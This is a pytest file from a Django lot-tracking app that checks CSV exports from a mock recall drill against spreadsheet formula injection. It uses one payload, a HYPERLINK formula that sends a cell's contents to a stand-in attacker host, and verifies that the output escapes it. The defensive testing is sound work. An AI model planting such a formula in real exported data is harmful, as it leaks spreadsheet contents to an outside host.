"""Formula injection (issue 14, item 14): every CSV FlowViz writes goes through the one guard
in flowviz/core/spreadsheets.py, the mock-recall drill's three files included."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from lots.drills import recall_drill_run
from lots.models import Lot, LotGenealogy, LotType

ROOT = Path(__file__).resolve().parents[2]
APP_DIRS = ("accounts", "flowviz", "lots", "quality")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _modules() -> list[Path]:
    return [
        path
        for folder in APP_DIRS
        for path in (ROOT / folder).rglob("*.py")
        if "migrations" not in path.parts
    ]


def test_only_the_spreadsheet_module_uses_the_csv_module():
    users = []
    for path in _modules():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(name == "csv" or name.startswith("csv.") for name in names):
                users.append(str(path.relative_to(ROOT)))
    assert users == ["flowviz/core/spreadsheets.py"]


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row}


@pytest.mark.django_db
def test_a_mock_recall_drill_neutralizes_formula_cells_in_all_three_csv_files(demo):
    raw = Lot.objects.create(lot_code="-RAW", lot_type=LotType.RAW, weight_kg=Decimal("2.00"))
    fg = Lot.objects.create(lot_code=EVIL, lot_type=LotType.FG, weight_kg=Decimal("1.00"))
    LotGenealogy.objects.create(parent_lot=raw, child_lot=fg, quantity_used_kg=Decimal("1.00"))
    drill = recall_drill_run(lot_code="-RAW", source="command", run_by_name="test")
    for text in (drill.recall_csv, drill.reconciliation_csv, drill.fsma204_csv):
        cells = _cells(text)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), text
    assert "'" + EVIL in _cells(drill.recall_csv)
    assert {"'-RAW", "'" + EVIL} <= _cells(drill.fsma204_csv)
    assert "'" + EVIL in _cells(drill.reconciliation_csv)
